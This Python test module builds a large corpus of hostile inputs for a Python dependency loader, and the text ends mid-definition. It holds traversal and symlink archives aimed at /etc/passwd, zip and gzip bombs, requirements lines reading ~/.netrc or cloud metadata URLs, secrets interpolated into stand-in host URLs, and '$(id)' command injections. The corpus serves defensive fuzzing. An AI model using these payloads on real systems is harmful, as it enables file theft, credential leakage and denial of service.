"""Hostile inputs made by hand, by target: what each shows is its name. Those in HEAVY take seconds, or memory."""

from __future__ import annotations

import itertools
import json
import os
import stat
import struct
import zipfile
import zlib
from typing import TYPE_CHECKING, Any

from attack import targets, zips
from attack.zips import MIB, Member, zipped

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Mapping

    Input = bytes | Callable[[], bytes]

STORED, DEFLATED = zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED
DIGITS = b"9" * 5000  # more than Python makes a number of
DEEP = 3000
LONG = ["9" * 5000, "x" * 9000, "(" * DEEP, "a." * 9000]


# --- archives -----------------------------------------------------------------------------------------

# Every way of writing "somewhere else" that an extractor or a file system has been known to fall for.
TRAVERSALS = [
    "../x", "a/../../x", "..", "a/..", "./../x", "/x", "//x", "///etc/x", "//server/share/x", "\\\\server\\share\\x",
    "..\\x", "a\\..\\..\\x", "\\x", "C:x", "C:/x", "c:\\x", "\\\\?\\C:\\x", "\\\\.\\pipe\\x", "%2e%2e/x", "%2e%2e%2fx",
    "..%2fx", "..%5cx", "%252e%252e/x", "..%c0%afx", "..%00/x", ".. /x", ".../x", "..../x", "..;/x", ". ./x", "..\0/x",
    "x\0/../../y", "\u2025/x", "\uff0e\uff0e/x", "..\u2215x", "..\u2044x", "..\uff0fx", "..\uff3cx", "\u202e../x",
    "..\u200b/x", "~/x", "~root/x", "$HOME/x", "`id`/x", "a/./../../x", "a//../..//x", ".", "./", "", "/", "//", "a/.",
    "con", "NUL.py", "aux/x", "com1.txt", "lpt1", "x.", "x ", "x. .", "x::$DATA", "x:stream", "-rf", "--help", "\n",
    "\r",
    "\x1b[2J", "x" * 256, "x/" * 600, "d/" * 101 + "x", "\ud7ff", "\ufffe", "\ufdd0", "\U0010ffff", "e\u0301" * 85,
    "proc/self/root/x", "dev/stdin", ".git/hooks/post-checkout", "__pycache__/x.pyc",
]  # fmt: skip
TWINS = {
    "case": ("readme.py", "README.py"),
    "dotted and dotless I": ("i.py", "İ.py", "\u0131.py", "I.py"),
    "sharp S": ("straße.py", "STRASSE.py", "straẞe.py"),
    "Kelvin": ("k.py", "\u212a.py"),
    "Angstrom": ("å.py", "\u212b.py", "a\u030a.py"),
    "Hangul": ("\uac00.py", "\u1100\u1161.py"),
    "order of accents": ("a\u0323\u0301.py", "a\u0301\u0323.py"),
    "ligature": ("ﬁ.py", "fi.py"),
    "final sigma": ("\u03c3.py", "ς.py", "Σ.py"),
    "iota below": ("ᾳ.py", "\u03b1\u03b9.py"),
    "folders": ("A/x.py", "a/y.py"),
    "a file and a folder": ("a", "A/x.py"),
}
SPECIAL = {
    "link": stat.S_IFLNK,
    "pipe": stat.S_IFIFO,
    "device": stat.S_IFCHR,
    "disk": stat.S_IFBLK,
    "socket": stat.S_IFSOCK,
}


def _link(name: str, to: str) -> Member:
    return Member(name, to.encode(), mode=stat.S_IFLNK | 0o777)


def _zip64(size: int, packed: int, at: int) -> bytes:
    """A member whose sizes and place are in a zip64 extra field, as 64 bits."""
    body = Member("a").local()
    extra = struct.pack("<2H3Q", 1, 24, size, packed, at)
    header = struct.pack("<5H3L2H", 45, 1 << 11, 0, 0, 33, zlib.crc32(b"data"), 0xFFFFFFFF, 0xFFFFFFFF, 1, len(extra))
    entry = b"PK\1\2\x2d\3" + header + struct.pack("<3H2L", 0, 0, 0, 0, 0xFFFFFFFF) + b"a" + extra
    return body + entry + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 1, 1, len(entry), len(body), 0)


def _end64(members: int, length: int, offset: int) -> bytes:
    """An archive of one member whose zip64 end record says something else."""
    data = zipped(Member("a"))
    at = data.index(b"PK\5\6")
    record = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, members, members, length, offset)
    locator = struct.pack("<4sLQL", b"PK\6\7", 0, at, 1)
    return data[:at] + record + locator + data[at:]


def _two_tables() -> bytes:
    """Two tables of members: one that the last end record names, one that an end record in its comment does."""
    good = zipped(Member("good.py"))
    evil = zipped(Member("../evil.py"))
    return good[:-2] + struct.pack("<H", len(evil)) + evil


def _between() -> bytes:
    """A whole zip between two members, where no table looks."""
    hidden = zipped(Member("../hidden.py"))
    first, last = Member("a.py"), Member("b.py")
    start = len(first.local()) + len(hidden)
    table = first.entry(0) + last.entry(start)
    body = first.local() + hidden + last.local()
    return body + table + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 2, 2, len(table), len(body), 0)


ARCHIVE: dict[str, Input] = {
    **{f"traversal {name[:24]!a}": zipped(Member(name), Member("a.py")) for name in TRAVERSALS},
    **{f"traversal in a folder {name[:20]!a}": zipped(Member(f"{name}/", b"")) for name in TRAVERSALS[:24]},
    **{
        f"the local header says {name[:20]!a}": zipped(Member("a.py", local_name=name))
        for name in ("../x", "/x", "a.py\0", "A.py", "b.py")
    },
    **{
        f"another name in a Unicode extra field: {name}": zipped(
            Member("a.py", extra=struct.pack("<2HBL", 0x7075, 5 + len(name), 1, zlib.crc32(b"a.py")) + name.encode())
        )
        for name in ("../x", "/etc/x")
    },
    **{f"twins: {what}": zipped(*map(Member, names)) for what, names in TWINS.items()},
    **{
        f"a {what}{' by a folder' if end else ''}": zipped(
            Member(f"x{end}", b"/etc/passwd"[: 0 if end else 11], mode=kind | 0o777)
        )
        for what, kind in SPECIAL.items()
        for end in ("", "/")
    },
    "a link, and a member below it": zipped(Member("l", b"/etc", mode=stat.S_IFLNK | 0o777), Member("l/passwd")),
    **{
        f"a link to {to[:20]!a}": zipped(Member("a", b"1"), Member("d/b", b"2"), _link("d/l", to), _link("m", "d/b"))
        for to in (*TRAVERSALS, "../a", "..", ".", "b", "l", "../m", "../d", "b/", "", "../../", "/proc/self/environ")
    },
    "links to folders of links": zipped(
        Member("0/a"), *(_link(f"{level}/{copy}", f"../{level - 1}") for level in range(1, 30) for copy in range(9))
    ),
    "many links to a large folder": lambda: zipped(
        *(Member(f"d/{at}", b"") for at in range(3000)), *(_link(f"l{at}", "d") for at in range(3000))
    ),
    "many links to a large file": lambda: zipped(
        Member("a", bytes(15 * MIB), DEFLATED), *(_link(f"l{at}", "a") for at in range(3000))
    ),
    "a link to a folder, and a member below it": zipped(Member("d/a"), _link("l", "d"), Member("l/a")),
    "setuid and setgid": zipped(Member("x", mode=0o106755)),
    **{
        f"compression {method}": zipped(Member("a", method=method))
        for method in (1, 6, 9, 12, 14, 93, 95, 98, 99, 0xFFFF)
    },
    **{f"flag {bit}": zipped(Member("a", flags=1 << bit)) for bit in range(16)},
    "an overlapping bomb": lambda: zips.fifield(200, 4 * MIB),
    "lying headers: 4 GB of nothing": zipped(*(Member(str(at), size=0xFFFFFFF0, method=DEFLATED) for at in range(9))),
    "lying headers: 64 MB that say they are 9 bytes": lambda: zipped(
        Member("a", bytes(9), DEFLATED, packed=zips.deflated(bytes(64 * MIB)))
    ),
    "bombs below the limit each": lambda: zipped(*(Member(str(at), bytes(MIB * 15), DEFLATED) for at in range(4))),
    "a quine": zips.quine(),
    "zip64: 16 EB": _zip64((1 << 64) - 1, (1 << 64) - 1, 0),
    "zip64: the place is 16 EB away": _zip64(4, 4, (1 << 64) - 1),
    "zip64: sizes that are true": _zip64(4, 4, 0),
    "zip64: the field is too short": zipped(
        Member("a", size=0xFFFFFFFF, method=DEFLATED, extra=struct.pack("<2HL", 1, 4, 1))
    ),
    "zip64: 2^64 members": _end64((1 << 64) - 1, 1, 1),
    "zip64: the table is 16 EB long": _end64(1, (1 << 64) - 1, 0),
    "zip64: the table is 16 EB away": _end64(1, 47, (1 << 64) - 1),
    "zip64: a locator without a record": zipped(Member("a"), comment=b"PK\6\7" + bytes(16)),
    "two tables of members": _two_tables(),
    "an end record in the comment": zipped(Member("a"), comment=zipped(Member("../b"))[-22:]),
    "an end record in a member": zipped(Member("a", zipped(Member("../b")))),
    "a zip between two members": _between(),
    "a comment that claims more than there is": zipped(Member("a"))[:-2] + b"\xff\xff",
    "a program before a zip": b"#!/bin/sh\n" + zipped(Member("../a")),
    "an extra field that ends in the middle": zipped(Member("a", extra=b"\1\0\xff\xff")),
    "a name in bytes that are no text": zipped(Member("é")).replace("é".encode(), b"\xff\xfe"),
    "every byte in a name": zipped(*(Member(f"n{chr(byte)}", flags=0) for byte in range(1, 128) if byte != ord("/"))),
    "a checksum that is not of the data": zipped(Member("a", crc=0)),
    "the same member ten thousand times": zipped(*[Member("a", b"")] * 10_000),
    "a year before there were zips": zips.patched(zipped(Member("a")), b"PK\1\2", 14, 0),
}

HEAVY: dict[str, dict[str, Input]] = {
    "archive": {
        "two million members": lambda: zips.crowded(b"%d" % number for number in range(2_000_000)),
        "a hundred thousand members": lambda: zips.crowded(b"%d" % number for number in range(100_000)),
        "a hundred thousand unsafe members": lambda: zips.crowded(b"../%d" % number for number in range(99_999)),
        "a table of 700 MB": lambda: zips.crowded((b"%d" % number for number in range(99_000)), b"c" * 7000),
        "names of a thousand accents": lambda: zips.crowded(
            f"{'a' + chr(0x345) + chr(0x301) + chr(0x327):/<99}{number}".encode() + b"\xcc\x81\xcc\xa7" * 55
            for number in range(60_000)
        ),
        "folders a hundred deep": lambda: zips.crowded(f"{number}/{'d/' * 98}x".encode() for number in range(500)),
        "a bomb of 250 MB below the ratio": lambda: zipped(
            Member("noise", os.urandom(2 * MIB)), Member("zeros", bytes(250 * MIB), DEFLATED)
        ),
    },
    "detection": {
        "zips in zips, two gigabytes together": lambda: zips.nested(2, 32),
        "an sdist that unpacks to 3 GB": lambda: b"g" + zips.zeros_gzipped(zips.tar_header("a", 3 << 30), 3 << 30),
        "a tar header of 1 GB": lambda: b"g" + zips.zeros_gzipped(zips.tar_header("a", 1 << 30, b"x"), 1 << 30),
        "a module of 60 MB": lambda: b"i" + b"0\n" * (30 << 20),
        "modules that are all statements": lambda: zips.ordinary({f"m{at}.py": b"0;" * 200_000 for at in range(200)}),
        "a pyproject.toml of 100 MB": lambda: b"p[project]\n" + b"#" * (100 << 20),
        "ten thousand projects": lambda: zips.ordinary(
            {f"p{at}/pyproject.toml": b"[project]\nname = 'a'\n" for at in range(10_000)}
        ),
        "a RECORD of a million rows": lambda: b"r" + b"".join(b"alpha/%d.py,,\n" % at for at in range(1_000_000)),
    },
    "wheels": {
        "a RECORD of 300,000 rows": lambda: b"r" + b"".join(b"%x,,\n" % at for at in range(300_000)),
        "half a million requirements": lambda: b"m" + zips.METADATA + b"Requires-Dist: a\n" * 500_000,
        "METADATA of 200 MB": lambda: b"m" + zips.METADATA + b"\n" + b" " * (200 << 20),
        "a thousand .pth files of a megabyte": lambda: zips.wheel({f"p{at}.pth": b"#" * MIB for at in range(1000)}),
        "a .pth file of ten thousand folders and as many files": lambda: zips.wheel(
            {
                "a.pth": b"".join(b"d%d\n" % at for at in range(10_000)),
                **{f"f{at}.py": b"" for at in range(10_000)},
            }
        ),
    },
    "lock": {
        "keys of a hundred thousand parts": lambda: b"a." * 100_000 + b"b = 1\n",
        "a million tables": lambda: b"lock-version = '1.0'\n" + b"".join(b"[t%d]\n" % at for at in range(1_000_000)),
        "a hundred thousand packages": lambda: (
            b"lock-version = '1.0'\n"
            + b"".join(b"[[packages]]\nname = 'p%d'\nmarker = \"os_name == 'nt'\"\n" % at for at in range(90_000))
        ),
    },
    "requirements": {
        "a million requirements": lambda: b"a\n" * 1_000_000,
        "forty thousand markers": lambda: b"a ; os_name == 'x' and (python_version > '3' or extra == 'y')\n" * 40_000,
    },
    "manifest": {
        "a manifest of 200 MB": lambda: b"j" + b" " * (200 << 20),
        "twenty thousand wheels that are not there": lambda: (
            b"j" + json.dumps(zips.manifest_of({f"a{at}-1.0-py3-none-any.whl": b"" for at in range(20_000)})).encode()
        ),
    },
    "activation": {
        "a wheel that unpacks to 2 GB": lambda: b"w" + zips.wheel({"zeros": bytes(2000 * MIB)}),
        "a wheel that says 9 bytes and holds 500 MB": lambda: (
            b"w" + zips.wheel(more=[Member("a", bytes(9), DEFLATED, packed=zips.deflated(bytes(500 * MIB)))])
        ),
        "a manifest of 200 MB": lambda: b"j" + b" " * (200 << 20),
    },
}


# --- detection ----------------------------------------------------------------------------------------

_POETRY = b"p[tool.poetry.dependencies]\n"
_MEMBERS = b"p[project]\n[tool.uv.workspace]\nmembers = "


def _layouts() -> Iterator[tuple[str, bytes]]:
    """Sources whose files lie where they should not, or say what they should not."""
    bad = {
        "folders of the names of files": {
            "requirements.txt/x": b"",
            "pylock.toml/x": b"",
            "setup.py/x": b"",
            "a.whl/x": b"",
        },
        "a dist-info of folders": {"a-1.dist-info/RECORD/x": b"", "a-1.dist-info/METADATA/x": b""},
        "two locks and five lists": {f"requirements-{at}.txt": b"six" for at in range(5)}
        | {"pylock.a.toml": b"", "pylock.b.toml": b""},
        "a wheelhouse that somebody else wrote": {
            "manifest.json": b"[" * 9000,
            "_depload_x/__init__.py": b"raise SystemExit",
        },
        "nothing but junk": {".git/config": b"", "__MACOSX/._a": b"", "a.pyc": b"", ".env": b"TOKEN=x"},
        "a virtual environment": {"venv/pyvenv.cfg": b"", "venv/lib/x.py": b"import os"},
        "zips that are none": {"a.zip": b"PK", "b.ZIP": b"", "c.zip": zipped(Member("../x"))},
        "zips forty deep": {"1.zip": zips.quine()},
        "the same project by every path": {
            "pyproject.toml": b"[project]\n[tool.uv.sources]\na={path='.'}\nb={path='./x/..'}\nc={path='x'}\n",
            "x/pyproject.toml": b"[project]\n[tool.uv.sources]\na={path='..'}\n",
        },
        "a chain of projects": {
            f"p{at}/pyproject.toml": b"[project]\n[tool.uv.sources]\nn={path='../p%d'}\n" % (at + 1)
            for at in range(1500)
        },
    }
    yield from ((what, zips.ordinary(files)) for what, files in bad.items())


DETECTION: dict[str, Input] = {
    **dict(_layouts()),
    "a pyproject.toml with keys of 20,000 parts": b"p" + b"a." * 20_000 + b"b = 1\n",
    "a pyproject.toml nested 100,000 deep": b"pa = " + b"[" * 100_000,
    "a pyproject.toml with a number of 5,000 digits": b"pa = " + DIGITS,
    "a pyproject.toml that is no text": b"p\xff\xfe\x00",
    **{
        f"a workspace of {pattern[:30]!r}": _MEMBERS + json.dumps([pattern]).encode() + b"\n"
        for pattern in (
            "../*",
            "/*",
            "**/**/**/**/**/**/**/**/*",
            "a**b",
            "[",
            "\0",
            "x" * 5000,
            "*/" * 99,
            "**",
            "~",
            "{a,b}",
        )
    },
    "a workspace of a thousand patterns": _MEMBERS + json.dumps(["*/*"] * 1000).encode(),
    **{
        f"a dependency at {path[:30]!r}": b"p[project]\n[tool.uv.sources]\na = {path = %s}\n"
        % json.dumps(path).encode()
        for path in ("../..", "/etc", "\0", "x" * 5000, "/proc/self/root", "packages/one", "a/" * 2000)
    },
    "a Poetry dependency at a link's place": _POETRY + b"a = {path = '/proc/self/cwd'}\n",
    "a setup.cfg of brackets": b"c" + b"[metadata" * 5000,
    "a setup.py of white space": b"s" + b" " * 200_000 + b"import",
    **{
        f"a module of {what}": b"i" + text
        for what, text in {
            "2,000 elifs": b"if a:\n import x\n" + b"elif b:\n import y\n" * 2000,
            "parentheses": b"(" * 5000,
            "minus signs": b"-" * 100_000 + b"1",
            "a condition of 900 terms": b"if " + b"a+" * 900 + b"a:\n import x\n",
            "nested functions": b"".join(b" " * at + b"def f():\n" for at in range(150)),
            "nested lambdas": b"lambda:" * 5000 + b"1",
            "a million strings": b"'a'" * 150_000,
            "NULs": b"\0" * 5000,
            "UTF-16": "import x".encode("utf-16"),
            "a coding that is none": b"# coding: hex\nimport x",
            "punycode": b"# coding: punycode\n" + b"a" * 20_000 + b"-" + b"9" * 20_000,
            "idna": b"# coding: idna\nimport " + b"a." * 5000 + b"b",
            "f-strings": b'f"{' * 900,
            "walruses": b"(a:=" * 190 + b"1" + b")" * 190,
            "imports of stars": b"from . import *\nfrom .... import a\nimport " + b"a." * 5000 + b"a",
            "a match of everything": b"match x:\n" + b" case [[" * 90,
        }.items()
    },
    **{
        f"a tar of {what}": b"t" + data
        for what, data in {
            "nothing": b"",
            "names without end": zips.tar_header(kind=b"L") * 3000,
            "pax headers without end": zips.tar_header(kind=b"x") * 3000,
            "a negative size": zips.negative_size() * 3,
            "links": zips.tar_header("acme-1.0/PKG-INFO", kind=b"2", linkname="/etc/passwd"),
            "a sparse file": zips.tar_header(kind=b"S", size=1 << 30),
            "a header of eight exabytes": zips.tar_header(kind=b"x", size=8 << 30),
            "half a header": zips.tar_header()[:300],
            "a pax size": zips.tar_header(kind=b"x", size=20)
            + b"20 size=99999999999\n".ljust(512, b"\0")
            + zips.tar_header(),
            "a pax header of nonsense": zips.tar_header(kind=b"x", size=512)
            + b"99999999999999999999 a=b\n".ljust(512, b"9"),
            "a project": zips.tar_header("acme-1.0/PKG-INFO") + bytes(1024),
        }.items()
    },
    "a .tar.gz cut short": b"g" + zips.zeros_gzipped(zips.tar_header(size=MIB), MIB)[:200],
    "a .tar.gz that is damaged": b"g" + zips.zeros_gzipped(zips.tar_header(size=MIB), MIB)[:60] + b"\xff" * 50,
    "a .tar.gz that is text": b"gacme",
    **{
        f"a RECORD of {row[:30]!r}": b"r" + row
        for row in (
            b"/etc/passwd,,\n",
            b"//etc/passwd,,\n",
            b"///etc/passwd,,\n",
            b"../../etc/passwd,,\n",
            b"x" * 300 + b",,\n",
            b"a\0b,,\n",
            b'"' + b"x" * 200_000,
            b"bin/run,,\n",
            b"",
            b",,\n",
            b"\n" * 1000,
            b"a/" * 3000 + b",,\n",
            b".,,\n",
            b"alpha,,\n",
            b"~,,\n",
            b"\xff\xfe,,\n",
            b"alpha-1.0.dist-info/../../x,,\n",
            b"..\\x,,\n",
            b"C:\\x,,\n",
        )
    },
    **{
        f"an installed package called {name[:24]!r}": b"mName: " + name + b"\nVersion: 1.0\n"
        for name in (b"", b"../../x", b"/etc/x", b"a b", b"a\0b", b"x" * 300, b"a\n b", "é".encode(), b"-", b"a/b")
    },
    **{
        f"an installed package of version {version[:16]!r}": b"mName: alpha\nVersion: " + version + b"\n"
        for version in (b"", DIGITS, b"../../x", b"1/2", b"1-2", b"x", b"1.0+" + b"a." * 100)
    },
    "an installed wheel of 100 x 100 x 100 tags": b"w"
    + b"".join(b"Tag: a%d-b%d-c%d\n" % (at, at, at) for at in range(100)),
    "an installed wheel of a thousand tags": b"w" + b"Tag: a-b-c\n" * 1000,
    "an installed wheel of a tag that is a path": b"wTag: ../../x-y-z\n",
}


# --- requirements -------------------------------------------------------------------------------------

_FILES_THEY_MAY_NOT = [
    "-r ../../etc/passwd", "-r /etc/passwd", "-r file:///etc/passwd", "-r file://localhost/etc/passwd",
    "-c //etc/passwd",
    "-r ../source/../../etc/passwd", "-r pkg/../../../etc/passwd", "-r /proc/self/environ", "-r /dev/zero",
    "-r /dev/stdin",
    "-r \\\\host\\share\\x", "-r C:\\x", "-r ~/.netrc", "-r ${HOME}/.netrc", "-r $HOME/.netrc", "-f /", "-f file:///",
    "-f ..", "./../outside", "file:../x.zip", "file:///etc", "file:/etc/passwd", "file://host/x.zip",
    "x @ file:///etc/passwd",
    "x @ file:%2e%2e/%2e%2e/etc", "x @ FILE:///etc/passwd", "/etc/x.whl", "libs/../../x.whl", "./pkg/..", "-e ..",
    "-e /",
    "x @ file:///proc/self/root", "file:pkg%2f..%2f..", "-r requirements.txt", "-r ./././requirements.txt", "-r .",
    "-r ''",
    '-r "more.txt" -r /etc/passwd', "-r more.txt#/etc/passwd", "-r more.txt?x", "-r more.txt%00/etc/passwd",
    "--requirement=/etc/passwd",
    "--req /etc/passwd", "-r\t/etc/passwd", "-rmore.txt -r/etc/passwd", "six -r /etc/passwd",
    "six --requirement=/etc/passwd",
]  # fmt: skip
_HOSTS_THEY_MAY_NOT = [
    f"{how}{url}"
    for url in (
        "http://169.254.169.254/latest/meta-data/x-1.0.zip", "http://2852039166/x-1.0.zip",
        "http://0xa9fea9fe/x-1.0.zip",
        "http://0251.0376.0251.0376/x-1.0.zip", "http://169.254.43518/x-1.0.zip", "http://[fe80::1]/x-1.0.zip",
        "http://[::ffff:169.254.169.254]/x-1.0.zip", "http://[::ffff:a9fe:a9fe]/x-1.0.zip",
        "http://[fd00:ec2::254]/x-1.0.zip",
        "http://metadata.google.internal/x-1.0.zip", "http://metadata.google.internal./x-1.0.zip",
        "http://u:p@169.254.169.254:80/x-1.0.zip", "HTTP://169.254.169.254/x-1.0.zip",
    )
    for how in ("x @ ", "-i ", "--extra-index-url ", "-f ")
]  # fmt: skip
_ODD = [
    "git+ssh://git@host/o/n", "git+file:///etc", "ssh://host/x", "ftp://host/x.zip", "gopher://h/x", "data:,x",
    "javascript:1",
    "x @ git+https://h/x@${DATABRICKS_TOKEN}", "-i https://h/%(env)s", "-i https://h/{HOME}", "-i https://h/${HOME}",
    "--index-url --pre", "--proxy http://h", "--cert /etc/passwd", "--client-cert x", "--config-settings x=y",
    "--root /",
    "--target /", "--prefix /", "--user", "--src /", "--build /", "--log /tmp/x", "--cache-dir /", "--python /bin/sh",
    "-e git+x",
    "--trusted-host *", "--trusted-host evil.example", "--no-index", "--pre", "--global-option=x", "--install-option=x",
    "six\u2028-r /etc/passwd", "six\x0b-r /etc/passwd", "six\x85-i http://h", "s\u0456x", "six\u200b", "\ufeffsix",
    "\u0455\u0456\u0445", "\uff53\uff49\uff58",
    "six;os_name~='x'", "six;python_version~='1'", "six;python_version<'${DATABRICKS_TOKEN}'", "six;'a' in 'b'",
    "six;os_name in os_name",
    "six;platform_release>='1'", "six;implementation_version~='1.x'", "six;extra>'x'", "six;python_full_version===''",
    "six;not os_name",
    "six" + "[" * DEEP, "six;" + "(" * DEEP, "six;" + "os_name=='x' and " * 200 + "os_name=='x'", "a" * 70_000,
    "six" + "=" * 4000,
    "six==" + "1." * 2000, "six==" + "9" * 4000, "six>=" + "1!" * 2000, "six==1.0+" + "a." * 1500,
    "six ~= " + "9" * 4000,
    "x @ https://" + "a." * 2000 + "b/x.zip", "x @ https://" + "@" * 4000, "x @ https://h/" + "%" * 4000,
    "x @ https://[" + ":" * 4000,
    "https://h/" + "-".join(["a." * 600] * 5) + ".whl", "https://h:99999999/x.zip", "https://h:-1/x.zip",
    "https://\u2488com/x.zip",
    "-e " + "://a:" * 10_000, "--x='" + "a" * 60_000, "'" * 60_000, "\\" * 60_000, "#" * 100_000,
    "${" * 200 + "}" * 200,
    "six --hash=sha256:" + "0" * 63, "six --hash=" + "a" * 60_000, "six --hash=md5:0", "--hash=sha256:0", "six @ @ @ @",
]  # fmt: skip

REQUIREMENTS: dict[str, Input] = {
    f"{line[:60]!a}{' ...' if len(line) > 60 else ''}": f"{line}\n".encode("utf-8", "surrogatepass")
    for line in dict.fromkeys([*_FILES_THEY_MAY_NOT, *_HOSTS_THEY_MAY_NOT, *_ODD])
}
REQUIREMENTS |= {
    **{
        f"{name} for the host {line[:24]!r}": line.replace("$", f"${{{name}}}").encode()
        for name in targets.SECRETS
        for line in (
            "-i https://$@h/",
            "x @ https://h/$/x.zip",
            "--extra-index-url https://h/?q=$",
            "six==$",
            "-f https://$.h/",
        )
    },
    "UTF-7": b"# coding: utf-7\n+AC0-r /etc/passwd\n",
    "UTF-16 without a mark": "six\n-r /etc/passwd\n".encode("utf-16-le"),
    "an endless line": b"six \\\n" * 50_000,
    "a NUL in every place": b"\0s\0i\0x\0\n\0-\0r\0 \0/\0e\0t\0c\0",
    "all bytes": bytes(range(256)) * 20,
}


# --- wheels -------------------------------------------------------------------------------------------


def _wheel_rows() -> Iterator[tuple[str, Input]]:
    for name in TRAVERSALS:
        yield f"a member {name[:24]!a}", zips.wheel(more=[Member(name)])
        yield f"data for the site's {name[:20]!a}", zips.wheel(more=[Member(f"alpha-1.0.data/purelib/{name}")])
    for scheme in ("scripts", "data", "headers", "platlib", "..", "", "nothing", "SCRIPTS"):
        for name in ("../../x", "/etc/x", "x", ""):
            yield f"{scheme} of {name!r}", zips.wheel(more=[Member(f"alpha-1.0.data/{scheme}/{name}")])
    for name in (
        ".depload.json",
        "alpha-1.0.data/data/.depload.json",
        "alpha-1.0.data/purelib/.depload.json",
        ".Depload.JSON",
    ):
        yield f"depload's own record as {name}", zips.wheel(more=[Member(name, b'{"digest": "", "files": {}}')])
    for module in ("os.py", "encodings/__init__.py", "sitecustomize.py", "usercustomize.py", "__main__.py",
        "_depload_0.py",
                   "depload/__init__.py", "pyspark/__init__.py", "import.py", "\uff4f\uff53.py", "__init__.py",
                   "builtins.py"):  # fmt: skip
        yield f"a module {module}", zips.wheel({module: b"raise SystemExit"})
    for row in (b"alpha.py,sha256=,0\n", b"alpha.py,shake_128=x,0\n", b"alpha.py,md5=x,0\n", b"ALPHA.py,,\n",
        b"../x,,\n", b'"', b"\0,,\n",
                b"alpha.py,sha256\n", b"alpha.py," + b"a" * 99_999 + b"=x,0\n", b",,\n", b"alpha.py,blake2b=x,0\n",
                b"\xff,,\n" * 50):  # fmt: skip
        yield f"a RECORD of {row[:24]!r}", b"r" + row


_HEADERS = {
    "a version of 5,000 digits": b"Name: alpha\nVersion: " + DIGITS,
    "a Python of 5,000 digits": zips.METADATA + b"Requires-Python: >=" + DIGITS,
    "a requirement of 5,000 digits": zips.METADATA + b"Requires-Dist: a>=" + DIGITS,
    "a marker that nothing compares": zips.METADATA + b"Requires-Dist: a ; os_name ~= 'x'",
    "a marker nested 3,000 deep": zips.METADATA + b"Requires-Dist: a ; " + b"(" * DEEP,
    "a requirement that is a path": zips.METADATA + b"Requires-Dist: a @ file:///etc/passwd",
    "a requirement that is a command": zips.METADATA + b"Requires-Dist: a @ git+ssh://h/$(id)",
    "a name that a terminal obeys": b"Name: \x1b[2J\x1b]0;x\x07\nVersion: 1.0",
    "a name of a megabyte": b"Name: " + b"x" * MIB + b"\nVersion: 1.0",
    "a header that never ends": b"Name: alpha\n" + b" x\n" * 300_000,
    "a header without a colon": b"Name alpha\nVersion\n",
    "no header at all": b"",
    "an encoded word": b"Name: =?utf-8?b?Li4vLi4veA==?=\nVersion: 1.0",
    "bytes that are no text": b"Name: \xff\xfe\nVersion: 1.0",
}

WHEELS: dict[str, Input] = {
    **dict(_wheel_rows()),
    **{f"METADATA: {what}": b"m" + text for what, text in _HEADERS.items()},
    **{
        f"a .pth file of {text[:24]!r}": b"p" + text
        for text in (
            b"../../etc\n",
            b"/etc\n",
            b"a\na/b\n",
            b"import os; os.abort()\n",
            b"a" * 100_000,
            b"\0",
            b"\xff",
            b"a/" * 3000,
            b"\n" * 90_000,
        )
    },
    **{
        f"a file called {name[:30]!r}": b"f" + name
        for name in (
            b"alpha-1-" + b"-".join([b"a." * 8 + b"a"] * 3),
            b"alpha-" + b"9" * 50 + b"-py3-none-any",
            b"-1-py3-none-any",
            b"alpha-1-py3-none-any any",
            b"alpha-1.0-1x-py3-none-any",
            b"a-1-2-3-4-5-6",
            b"..",
            b"alpha-1.0-py3-none-any\n",
            b"\xff",
        )
    },
    **{
        f"WHEEL says {text[:20]!r}": b"w" + text
        for text in (b"", b"Wheel-Version: " + DIGITS, b"Wheel-Version: 1." + b"x" * 9999, b"\xff")
    },
    "two of them in one": zips.wheel({"beta-1.0.dist-info/METADATA": zips.METADATA}),
    "a dist-info that is a file": zipped(Member("alpha-1.0.dist-info")),
    "a bomb": lambda: zips.wheel({"zeros": bytes(40 * MIB)}),
    "members that share their data": zips.wheel(more=[Member(str(at), at=0, packed=b"") for at in range(300)]),
}


# --- locks --------------------------------------------------------------------------------------------

_LOCK = b'lock-version = "1.0"\n[[packages]]\nname = "alpha"\nversion = "1.0"\n'


def toml(value: object) -> bytes:
    """JSON is TOML, but for colons and for what a table is."""
    if isinstance(value, dict):
        return b"{" + b", ".join(b"%s = %s" % (key.encode(), toml(each)) for key, each in value.items()) + b"}"
    if isinstance(value, list):
        return b"[" + b", ".join(map(toml, value)) + b"]"
    return json.dumps(value).encode()


PLACES = [
    "/etc/passwd", "//etc/passwd", "../../etc/passwd", "file:///etc/passwd", "FILE:///etc/passwd",
    "file://host/etc/passwd", "http://[",
    "http://h:x/a", "ftp://h/x", "gopher://h/x", "a\0b", "%00", "%2e%2e/%2e%2e/x", "x" * 300, "a/" * 3000, "", " ",
    "\n", "~/x", "C:\\x",
    "\\\\host\\x", "http://169.254.169.254/x", "http://0xa9fea9fe/x", "http://metadata.google.internal/x", "data:,x",
    "git+https://h/x",
    "https://u:p@h/x", "https://h/" + "x" * 9000, "/proc/self/environ", "/dev/zero", "\x1b[2J", "\ud7ff", "pylock.toml",
]  # fmt: skip
_WHL = "alpha-1.0-py3-none-any.whl"
MARKERS = [
    "os_name ~= 'x'", "(" * DEEP, "python_version > '9." + "9" * 5000 + "'", "python_full_version ~= 'x'",
    "'a' in extras", "'a' not in dependency_groups",
    "'" * 3000, "'' " + " " * 20_000 + "x", "martian == 'x'", "os_name == 'x' or " * 100 + "os_name == 'x'",
    "extra == 'x'", "\x1b[2J", "",
]  # fmt: skip

LOCK: dict[str, Input] = {
    **{f"a wheel at {place[:30]!a}": _LOCK + b"wheels = " + toml([{"name": _WHL, "path": place}]) for place in PLACES},
    **{f"a wheel from {place[:30]!a}": _LOCK + b"wheels = " + toml([{"name": _WHL, "url": place}]) for place in PLACES},
    **{f"a wheel of no name at {place[:30]!a}": _LOCK + b"wheels = " + toml([{"path": place}]) for place in PLACES},
    **{
        f"an sdist called {place[:30]!a}": _LOCK + b"sdist = " + toml({"name": place, "url": "https://h/x"})
        for place in PLACES
    },
    **{f"a directory {place[:30]!a}": _LOCK + b"directory = " + toml({"path": place}) for place in PLACES},
    **{
        f"a marker {marker[:30]!a}": _LOCK + b"marker = " + toml(marker) + b"\nsdist = " + toml({"path": "x"})
        for marker in MARKERS
    },
    **{
        f"environments {marker[:30]!a}": b"lock-version = '1.0'\nenvironments = "
        + toml([marker])
        + b"\npackages = []\n"
        for marker in MARKERS
    },
    **{
